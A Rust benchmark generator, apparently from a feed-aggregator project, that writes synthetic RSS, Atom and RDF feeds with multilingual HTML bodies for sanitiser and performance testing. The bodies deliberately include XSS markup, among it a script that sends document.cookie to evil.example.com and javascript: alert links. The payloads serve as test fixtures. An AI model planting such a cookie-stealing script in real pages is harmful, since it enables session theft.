//! Benchmark workload generator (issue 5).
//!
//!     cargo run --release --example bench_gen -- --sources 500 --items 50 --seed 1 --port 8931 --out DIR
//!     cargo run --release --example bench_gen -- --touch 0.1 --seed 7 --out DIR
//!
//! The first form writes `DIR/feeds/NNNN.xml` (N sources x M items, fully determined by the seed)
//! and `DIR/feeds.toml` (one `[[source]]` per feed, fetched from `http://127.0.0.1:PORT/feeds/`,
//! served by the `bench_server` example). Feeds are a mix of RSS 2.0 with `content:encoded`,
//! Atom 1.0 with `xml:base`, RSS 1.0 (RDF) and RSS 2.0 in legacy charsets (Big5, GB18030,
//! windows-874, declared in the XML prolog). Item bodies are 1-8 KB of HTML with relative links,
//! images (some 1x1 tracking pixels), entities, hostile markup (`<script>`, `onclick=`,
//! `javascript:` hrefs, `<iframe>`), CJK and Thai text. About 5% of items are undated and about 3%
//! are cross-posted (same link) between two sources. Every item is in the topic `news`; with
//! `--topics T` also in one to three of T more, a few often and many rarely (the k-th with
//! weight 1/(k+1)), for the library's topic pages and feeds at a network's scale.
//!
//! The second form (`--touch FRACTION`) picks that fraction of the feed files (from the seed) and
//! inserts one new, newest item at the top of each, so the next run sees them changed.
//!
//! Only std and crates already in Cargo.toml (encoding_rs, chrono); the PRNG is splitmix64.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use chrono::{DateTime, Duration, TimeZone, Utc};

/// splitmix64: tiny, deterministic, good enough for a workload.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        Rng(seed)
    }
    fn derive(seed: u64, a: u64, b: u64) -> Self {
        let mut r = Rng(seed
            ^ a.wrapping_mul(0x9E37_79B9_7F4A_7C15)
            ^ b.wrapping_mul(0xD1B5_4A32_D192_ED03));
        r.next();
        r
    }
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n`.
    fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next() % n }
    }
    /// True with probability `pct` percent.
    fn pct(&mut self, pct: u64) -> bool {
        self.below(100) < pct
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    Rss2,
    Atom,
    Rdf,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Charset {
    Utf8,
    Big5,
    Gb18030,
    Windows874,
}

impl Charset {
    fn label(self) -> &'static str {
        match self {
            Charset::Utf8 => "UTF-8",
            Charset::Big5 => "Big5",
            Charset::Gb18030 => "GB18030",
            Charset::Windows874 => "windows-874",
        }
    }
    fn encoding(self) -> &'static encoding_rs::Encoding {
        match self {
            Charset::Utf8 => encoding_rs::UTF_8,
            Charset::Big5 => encoding_rs::BIG5,
            Charset::Gb18030 => encoding_rs::GB18030,
            Charset::Windows874 => encoding_rs::WINDOWS_874,
        }
    }
}

const WORDS: &[&str] = &[
    "rights",
    "outreach",
    "health",
    "clinic",
    "community",
    "safety",
    "policy",
    "report",
    "workers",
    "union",
    "housing",
    "legal",
    "support",
    "network",
    "harm",
    "reduction",
    "funding",
    "advocacy",
    "training",
    "peer",
    "research",
    "survey",
    "court",
    "decision",
    "campaign",
    "migrant",
    "labour",
    "access",
    "services",
    "meeting",
];
const TRAD_ZH: &[&str] = &[
    "性工作者的權利",
    "社區外展服務",
    "健康與安全",
    "法律援助",
    "同儕支持網絡",
    "政策倡議",
    "減少傷害",
    "移工權益",
    "年度報告發布",
    "工會會議紀錄",
];
const SIMP_ZH: &[&str] = &[
    "性工作者的权利",
    "社区外展服务",
    "健康与安全",
    "法律援助",
    "同伴支持网络",
    "政策倡导",
    "减少伤害",
    "移民工人权益",
    "年度报告发布",
    "工会会议记录",
];
const THAI: &[&str] = &[
    "สิทธิของพนักงานบริการ",
    "การบริการชุมชน",
    "สุขภาพและความปลอดภัย",
    "ความช่วยเหลือทางกฎหมาย",
    "เครือข่ายเพื่อนช่วยเพื่อน",
    "การรณรงค์นโยบาย",
    "การลดอันตราย",
    "สิทธิแรงงานข้ามชาติ",
    "รายงานประจำปี",
    "การประชุมสหภาพ",
];
const JA: &[&str] = &[
    "セックスワーカーの権利",
    "地域支援",
    "健康と安全",
    "法的支援",
];

/// The per-source shape, derived from (seed, source index) only.
#[derive(Debug, Clone, Copy)]
struct Shape {
    format: Format,
    charset: Charset,
}

fn shape(seed: u64, i: u64) -> Shape {
    let mut r = Rng::derive(seed, i, 1);
    let x = r.below(100);
    // 35% RSS 2.0 UTF-8, 25% Atom, 15% RSS 1.0, 25% legacy-charset RSS 2.0 (Big5, GB18030, windows-874).
    let (format, charset) = match x {
        0..35 => (Format::Rss2, Charset::Utf8),
        35..60 => (Format::Atom, Charset::Utf8),
        60..75 => (Format::Rdf, Charset::Utf8),
        75..84 => (Format::Rss2, Charset::Big5),
        84..92 => (Format::Rss2, Charset::Gb18030),
        _ => (Format::Rss2, Charset::Windows874),
    };
    Shape { format, charset }
}

/// Text fragments that the feed's charset can hold natively (anything else would still be written,
/// as a numeric character reference, by the encoder).
fn local_text(r: &mut Rng, cs: Charset) -> String {
    match cs {
        Charset::Big5 => r.pick(TRAD_ZH).to_string(),
        Charset::Gb18030 => r.pick(SIMP_ZH).to_string(),
        Charset::Windows874 => r.pick(THAI).to_string(),
        Charset::Utf8 => match r.below(4) {
            0 => r.pick(TRAD_ZH).to_string(),
            1 => r.pick(SIMP_ZH).to_string(),
            2 => r.pick(THAI).to_string(),
            _ => r.pick(JA).to_string(),
        },
    }
}

fn sentence(r: &mut Rng, n: usize) -> String {
    let mut s = String::new();
    for k in 0..n {
        if k > 0 {
            s.push(' ');
        }
        s.push_str(r.pick::<&str>(WORDS));
    }
    s
}

/// 1-8 KB of messy HTML.
fn body(r: &mut Rng, cs: Charset, src: u64, item: u64) -> String {
    // 1-8 KB, skewed towards short bodies (min of two uniforms): ~120 MB for 500 x 50.
    let target = 1024 + r.below(7 * 1024).min(r.below(7 * 1024)) as usize;
    let mut h = String::with_capacity(target + 512);
    let mut k = 0u64;
    while h.len() < target {
        k += 1;
        match r.below(12) {
            0 => {
                let _ = writeln!(
                    h,
                    "<p>See <a href=\"../posts/{src}-{item}-{k}.html\">our earlier post</a> &amp; the <a href=\"/reports/{k}.pdf\">report</a>.</p>"
                );
            }
            1 => {
                let _ = writeln!(
                    h,
                    "<p><img src=\"images/photo-{item}-{k}.jpg\" alt=\"{}\" width=\"640\" height=\"480\"></p>",
                    sentence(r, 3)
                );
            }
            2 => {
                let _ = writeln!(
                    h,
                    "<img src=\"http://track.example.com/pixel.gif?s={src}&amp;i={item}\" width=\"1\" height=\"1\" alt=\"\">"
                );
            }
            3 => {
                let _ = writeln!(
                    h,
                    "<p>It&#8217;s time:&nbsp;{}&nbsp;&mdash; &quot;{}&quot; &lt;3</p>",
                    sentence(r, 6),
                    sentence(r, 4)
                );
            }
            4 if r.pct(30) => {
                let _ = writeln!(
                    h,
                    "<script>document.write('x'+{k});fetch('http://evil.example.com/?c='+document.cookie)</script>"
                );
            }
            5 if r.pct(30) => {
                let _ = writeln!(
                    h,
                    "<p onclick=\"alert({k})\"><a href=\"javascript:alert(document.domain)\">click here</a></p>"
                );
            }
            6 if r.pct(30) => {
                let _ = writeln!(
                    h,
                    "<iframe src=\"http://www.youtube.com/embed/v{k}\" width=\"560\" height=\"315\" onload=\"x()\"></iframe>"
                );
            }
            7 => {
                let _ = writeln!(h, "<blockquote><p>{}</p></blockquote>", local_text(r, cs));
            }
            8 => {
                let _ = writeln!(
                    h,
                    "<ul><li>{}</li><li>{}</li><li><a href=\"#note-{k}\">{}</a></li></ul>",
                    sentence(r, 4),
                    local_text(r, cs),
                    sentence(r, 2)
                );
            }
            9 => {
                let _ = write!(
                    h,
                    "<h3 style=\"color:red\">{}</h3>\n<p>{} {}</p>\n",
                    sentence(r, 3),
                    local_text(r, cs),
                    local_text(r, cs)
                );
            }
            _ => {
                let n = 20 + r.below(40) as usize;
                let _ = writeln!(
                    h,
                    "<p class=\"x\">{}. <b>{}</b> <em>{}</em></p>",
                    sentence(r, n),
                    sentence(r, 2),
                    local_text(r, cs)
                );
            }
        }
    }
    h
}

/// The escaping feedbraid itself uses for text in HTML and XML.
fn xml_escape(s: &str) -> String {
    feedbraid::text::escape::escape(s)
}

fn base_time() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 10, 1, 12, 0, 0)
        .single()
        .unwrap_or_default()
}

struct Item {
    title: String,
    link: String,
    guid: String,
    date: Option<DateTime<Utc>>,
    summary: String,
    body: String,
    author: String,
    /// With `--topics N`: one to three of N topics, besides `news`.
    topics: Vec<String>,
}

/// One to three of `n` topics (none when `n` is 0), the k-th drawn with weight 1/(k+1), as a
/// network's partners use a few topics often and many rarely; from its own stream of the seed,
/// so that every other byte of a workload is the same with or without topics.
fn topics(seed: u64, i: u64, j: u64, n: u64) -> Vec<String> {
    if n == 0 {
        return Vec::new();
    }
    let mut r = Rng::derive(seed, i, 5_000_000 + j);
    let total: f64 = (0..n).map(|k| 1.0 / (k + 1) as f64).sum();
    let mut out: Vec<String> = Vec::new();
    for _ in 0..=r.below(3) {
        let mut at = (r.below(1 << 30) as f64 / (1u64 << 30) as f64) * total;
        let mut k = 0;
        while k + 1 < n && at >= 1.0 / (k + 1) as f64 {
            at -= 1.0 / (k + 1) as f64;
            k += 1;
        }
        let t = format!("topic {k}");
        if !out.contains(&t) {
            out.push(t);
        }
    }
    out
}

/// Items of source `i`, newest first. Sources are paired (2k, 2k+1); ~3% of item slots are
/// cross-posted: both sources of the pair carry an item with the same link.
fn items(seed: u64, n_sources: u64, i: u64, m: u64, cs: Charset, n_topics: u64) -> Vec<Item> {
    let mut out = Vec::with_capacity(m as usize);
    let pair = i / 2;
    let has_partner = (pair * 2 + 1) < n_sources;
    for j in 0..m {
        let mut r = Rng::derive(seed, i, 1000 + j);
        let mut x = Rng::derive(seed, pair, 1_000_000 + j);
        let cross = has_partner && x.pct(3);
        let title_extra = local_text(&mut r, cs);
        let title = format!("{} {} #{j}", sentence(&mut r, 4), title_extra);
        let (link, guid) = if cross {
            let l = format!("http://syndication.example.net/stories/{pair}-{j}.html");
            (l.clone(), format!("{l}#src{i}"))
        } else {
            let l = format!("http://src{i:04}.example.org/posts/{j}.html");
            (
                l.clone(),
                format!("tag:src{i:04}.example.org,2026:post-{j}"),
            )
        };
        // Newest first: item j is older than item j-1 by 1-12 hours.
        let offset_h = (j as i64) * 6 + (r.below(6) as i64) + (i as i64 % 97);
        let date = if r.pct(5) {
            None
        } else {
            Some(base_time() - Duration::hours(offset_h) - Duration::minutes(r.below(60) as i64))
        };
        let summary = format!("{} &amp; {}", sentence(&mut r, 12), local_text(&mut r, cs));
        let body = body(&mut r, cs, i, j);
        let author = format!("Author {}", r.below(20));
        out.push(Item {
            title,
            link,
            guid,
            date,
            summary,
            body,
            author,
            topics: topics(seed, i, j, n_topics),
        });
    }
    out
}

fn rss2_item(it: &Item, cdata: bool) -> String {
    let mut s = String::with_capacity(it.body.len() + 1024);
    s.push_str("<item>\n");
    let _ = write!(
        s,
        "  <title>{}</title>\n  <link>{}</link>\n  <guid isPermaLink=\"false\">{}</guid>\n",
        xml_escape(&it.title),
        it.link,
        it.guid
    );
    if let Some(d) = it.date {
        let _ = writeln!(
            s,
            "  <pubDate>{}</pubDate>",
            d.format("%a, %d %b %Y %H:%M:%S +0000")
        );
    }
    let _ = write!(
        s,
        "  <dc:creator>{}</dc:creator>\n  <category>news</category>\n",
        it.author
    );
    for t in &it.topics {
        let _ = writeln!(s, "  <category>{t}</category>");
    }
    let _ = writeln!(
        s,
        "  <description>{}</description>",
        xml_escape(&it.summary)
    );
    if cdata {
        let _ = writeln!(
            s,
            "  <content:encoded><![CDATA[{}]]></content:encoded>",
            it.body
        );
    } else {
        let _ = writeln!(
            s,
            "  <content:encoded>{}</content:encoded>",
            xml_escape(&it.body)
        );
    }
    s.push_str("</item>\n");
    s
}

fn atom_entry(it: &Item, i: u64) -> String {
    let mut s = String::with_capacity(it.body.len() + 1024);
    s.push_str("<entry>\n");
    // Own links are written relative to the feed's xml:base.
    let href = it
        .link
        .strip_prefix(&format!("http://src{i:04}.example.org/"))
        .map_or(it.link.clone(), |p| format!("../{p}"));
    let _ = write!(
        s,
        "  <title type=\"html\">{}</title>\n  <link rel=\"alternate\" type=\"text/html\" href=\"{}\"/>\n  <id>{}</id>\n",
        xml_escape(&xml_escape(&it.title)),
        href,
        it.guid
    );
    if let Some(d) = it.date {
        let _ = write!(
            s,
            "  <published>{}</published>\n  <updated>{}</updated>\n",
            d.to_rfc3339(),
            d.to_rfc3339()
        );
    }
    let _ = write!(
        s,
        "  <author><name>{}</name></author>\n  <category term=\"news\"/>\n",
        it.author
    );
    for t in &it.topics {
        let _ = writeln!(s, "  <category term=\"{t}\"/>");
    }
    let _ = writeln!(
        s,
        "  <summary type=\"html\">{}</summary>",
        xml_escape(&it.summary)
    );
    let _ = writeln!(
        s,
        "  <content type=\"html\">{}</content>",
        xml_escape(&it.body)
    );
    s.push_str("</entry>\n");
    s
}

fn rdf_item(it: &Item) -> String {
    let mut s = String::with_capacity(it.body.len() + 1024);
    let _ = writeln!(s, "<item rdf:about=\"{}\">", it.link);
    let _ = write!(
        s,
        "  <title>{}</title>\n  <link>{}</link>\n",
        xml_escape(&it.title),
        it.link
    );
    if let Some(d) = it.date {
        let _ = writeln!(s, "  <dc:date>{}</dc:date>", d.to_rfc3339());
    }
    let _ = writeln!(s, "  <dc:creator>{}</dc:creator>", it.author);
    for t in &it.topics {
        let _ = writeln!(s, "  <dc:subject>{t}</dc:subject>");
    }
    let _ = writeln!(
        s,
        "  <description>{}</description>",
        xml_escape(&it.summary)
    );
    let _ = writeln!(
        s,
        "  <content:encoded>{}</content:encoded>",
        xml_escape(&it.body)
    );
    s.push_str("</item>\n");
    s
}

fn feed_xml(seed: u64, n: u64, i: u64, m: u64, n_topics: u64) -> Vec<u8> {
    let sh = shape(seed, i);
    let its = items(seed, n, i, m, sh.charset, n_topics);
    let mut r = Rng::derive(seed, i, 2);
    let title = format!("Partner {i:04}: {}", local_text(&mut r, sh.charset));
    let home = format!("http://src{i:04}.example.org/");
    let mut s = String::with_capacity(m as usize * 6000);
    let _ = writeln!(
        s,
        "<?xml version=\"1.0\" encoding=\"{}\"?>",
        sh.charset.label()
    );
    match sh.format {
        Format::Rss2 => {
            s.push_str("<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:atom=\"http://www.w3.org/2005/Atom\">\n<channel>\n");
            let _ = write!(
                s,
                "<title>{}</title>\n<link>{home}</link>\n<description>News from partner {i}</description>\n<language>en</language>\n",
                xml_escape(&title)
            );
            let cdata = r.pct(50);
            for it in &its {
                s.push_str(&rss2_item(it, cdata));
            }
            s.push_str("</channel>\n</rss>\n");
        }
        Format::Atom => {
            let _ = writeln!(
                s,
                "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"{home}blog/\" xml:lang=\"en\">"
            );
            let _ = write!(
                s,
                "<title>{}</title>\n<id>tag:src{i:04}.example.org,2026:feed</id>\n<link rel=\"alternate\" href=\"./\"/>\n<link rel=\"self\" href=\"feed.atom\"/>\n",
                xml_escape(&title)
            );
            let upd = its
                .iter()
                .filter_map(|it| it.date)
                .max()
                .unwrap_or_else(base_time);
            let _ = write!(
                s,
                "<updated>{}</updated>\n<author><name>Partner {i}</name></author>\n",
                upd.to_rfc3339()
            );
            for it in &its {
                s.push_str(&atom_entry(it, i));
            }
            s.push_str("</feed>\n");
        }
        Format::Rdf => {
            s.push_str("<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\">\n");
            let _ = write!(
                s,
                "<channel rdf:about=\"{home}\">\n<title>{}</title>\n<link>{home}</link>\n<description>News from partner {i}</description>\n<items><rdf:Seq>\n",
                xml_escape(&title)
            );
            for it in &its {
                let _ = writeln!(s, "<rdf:li rdf:resource=\"{}\"/>", it.link);
            }
            s.push_str("</rdf:Seq></items>\n</channel>\n");
            for it in &its {
                s.push_str(&rdf_item(it));
            }
            s.push_str("</rdf:RDF>\n");
        }
    }
    let (bytes, _, _) = sh.charset.encoding().encode(&s);
    bytes.into_owned()
}

fn feeds_toml(n: u64, port: u16) -> String {
    let mut s = String::new();
    s.push_str("# Generated by `cargo run --release --example bench_gen`; read by feedbraid and by the peer script.\n");
    s.push_str("output_dir = \"output\"\nstate = \".feedbraid/state.db\"\n\n");
    s.push_str("[feed]\ntitle = \"Benchmark combined feed\"\nid = \"tag:bench.example.org,2026:feed\"\nlink = \"https://bench.example.org/\"\nself_url = \"https://bench.example.org/feed.atom\"\nauthor = { name = \"Bench\" }\nmax_entries = 100\n\n");
    s.push_str(
        "[fetch]\nconcurrency = 32\n# every source is on the same loopback host\nper_host = 32\n\n",
    );
    for i in 0..n {
        let _ = write!(
            s,
            "[[source]]\nname = \"partner-{i:04}\"\nurl = \"http://127.0.0.1:{port}/feeds/{i:04}.xml\"\n\n"
        );
    }
    s
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Inserts one new ASCII-only item (valid in every charset used) at the top of a feed file.
fn touch_file(path: &Path, seed: u64, i: u64) -> Result<(), String> {
    let mut data = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let now = Utc::now();
    let tag = format!("{}-{}", seed, now.timestamp_nanos_opt().unwrap_or_default());
    let mut r = Rng::derive(seed, i, 77);
    let it = Item {
        title: format!("Breaking: {} ({tag})", sentence(&mut r, 5)),
        link: format!("http://src{i:04}.example.org/posts/new-{tag}.html"),
        guid: format!("tag:src{i:04}.example.org,2026:new-{tag}"),
        date: Some(now),
        summary: sentence(&mut r, 15),
        body: body(&mut r, Charset::Windows874, i, 999_999)
            .chars()
            .filter(char::is_ascii)
            .collect(),
        author: "Author new".into(),
        topics: Vec::new(),
    };
    let (at, ins) = if let Some(p) = find(&data, b"<entry>") {
        (p, atom_entry(&it, i))
    } else if let Some(p) = find(&data, b"<item rdf:about=") {
        if let Some(q) = find(&data, b"<rdf:li ") {
            let li = format!("<rdf:li rdf:resource=\"{}\"/>\n", it.link);
            data.splice(q..q, li.into_bytes());
        }
        let p = find(&data, b"<item rdf:about=").unwrap_or(p);
        (p, rdf_item(&it))
    } else if let Some(p) = find(&data, b"<item>") {
        (p, rss2_item(&it, false))
    } else {
        return Err(format!("{}: no <item> or <entry> found", path.display()));
    };
    data.splice(at..at, ins.into_bytes());
    let tmp = path.with_extension("xml.tmp");
    std::fs::write(&tmp, &data).map_err(|e| format!("{}: {e}", tmp.display()))?;
    std::fs::rename(&tmp, path).map_err(|e| format!("{}: {e}", path.display()))
}

struct Args {
    sources: u64,
    items: u64,
    seed: u64,
    port: u16,
    out: PathBuf,
    touch: Option<f64>,
    topics: u64,
}

fn parse_args() -> Result<Args, String> {
    let mut a = Args {
        sources: 500,
        items: 50,
        seed: 1,
        port: 8931,
        out: PathBuf::from("bench-data"),
        touch: None,
        topics: 0,
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
        if k == "-h" || k == "--help" {
            return Err("usage: bench_gen [--sources N] [--items M] [--seed S] [--port P] [--topics T] --out DIR\n       bench_gen --touch FRACTION [--seed S] --out DIR".into());
        }
        let v = it.next().ok_or_else(|| format!("{k} needs a value"))?;
        let bad = |e: &dyn std::fmt::Display| format!("{k} {v}: {e}");
        match k.as_str() {
            "--sources" => a.sources = v.parse().map_err(|e| bad(&e))?,
            "--items" => a.items = v.parse().map_err(|e| bad(&e))?,
            "--seed" => a.seed = v.parse().map_err(|e| bad(&e))?,
            "--port" => a.port = v.parse().map_err(|e| bad(&e))?,
            "--out" => a.out = PathBuf::from(v),
            "--touch" => a.touch = Some(v.parse().map_err(|e| bad(&e))?),
            "--topics" => a.topics = v.parse().map_err(|e| bad(&e))?,
            _ => return Err(format!("unknown argument {k}")),
        }
    }
    Ok(a)
}

fn main() -> ExitCode {
    let a = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            return ExitCode::from(2);
        }
    };
    let dir = a.out.join("feeds");
    if let Some(frac) = a.touch {
        let mut files: Vec<PathBuf> = match std::fs::read_dir(&dir) {
            Ok(rd) => rd
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.extension().is_some_and(|x| x == "xml"))
                .collect(),
            Err(e) => {
                eprintln!("{}: {e}", dir.display());
                return ExitCode::from(2);
            }
        };
        files.sort();
        let mut r = Rng::new(a.seed ^ 0x7A11_0C4E);
        for k in (1..files.len()).rev() {
            files.swap(k, r.below(k as u64 + 1) as usize);
        }
        let n = ((files.len() as f64) * frac).round() as usize;
        for p in files.iter().take(n) {
            let i = p
                .file_stem()
                .and_then(|s| s.to_str())
                .and_then(|s| s.parse().ok())
                .unwrap_or(0);
            if let Err(e) = touch_file(p, a.seed, i) {
                eprintln!("{e}");
                return ExitCode::from(2);
            }
        }
        eprintln!("touched {n} of {} feeds in {}", files.len(), dir.display());
        return ExitCode::SUCCESS;
    }
    if let Err(e) = std::fs::create_dir_all(&dir) {
        eprintln!("{}: {e}", dir.display());
        return ExitCode::from(2);
    }
    let n = a.sources;
    let workers = std::thread::available_parallelism().map_or(2, |n| n.get()) as u64;
    let total: u64 = std::thread::scope(|sc| {
        let hs: Vec<_> = (0..workers)
            .map(|w| {
                let dir = &dir;
                let a = &a;
                sc.spawn(move || {
                    let mut bytes = 0u64;
                    let mut i = w;
                    while i < n {
                        let xml = feed_xml(a.seed, n, i, a.items, a.topics);
                        bytes += xml.len() as u64;
                        if let Err(e) = std::fs::write(dir.join(format!("{i:04}.xml")), &xml) {
                            eprintln!("write {i}: {e}");
                            std::process::exit(2);
                        }
                        i += workers;
                    }
                    bytes
                })
            })
            .collect();
        hs.into_iter().map(|h| h.join().unwrap_or(0)).sum()
    });
    if let Err(e) = std::fs::write(a.out.join("feeds.toml"), feeds_toml(n, a.port)) {
        eprintln!("feeds.toml: {e}");
        return ExitCode::from(2);
    }
    eprintln!(
        "wrote {n} feeds x {} items, {:.1} MB of XML, to {}",
        a.items,
        total as f64 / 1e6,
        dir.display()
    );
    ExitCode::SUCCESS
}
